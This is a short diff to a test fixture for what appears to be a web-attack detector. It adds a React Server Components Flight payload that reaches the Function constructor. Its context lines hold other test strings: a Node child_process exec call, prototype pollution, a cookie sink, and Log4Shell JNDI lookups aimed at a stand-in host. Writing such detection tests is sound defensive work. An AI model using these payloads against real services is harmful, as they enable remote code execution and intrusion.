@@ -131,6 +131,8 @@ export const ATTACKS: DetectorCase[] = [
   q("js sink at the end of the value", "document.cookie", "941160"),
   q("node child process", "require('child_process').exec('id')", "code"),
   q("prototype pollution", "__proto__[admin]", "code"),
+  // React Server Components (CVE-2025-55182): a Flight reference walked to the Function constructor.
+  q("flight reference to the function constructor", '{"_formData":{"get":"$3:constructor:constructor"}}', "934100"),
   // Java and Log4Shell
   q("jndi", "${jndi:ldap://x.example/a}", "java"),
   q("jndi lower", "${${lower:j}ndi:ldap://x.example/a}", "java"),
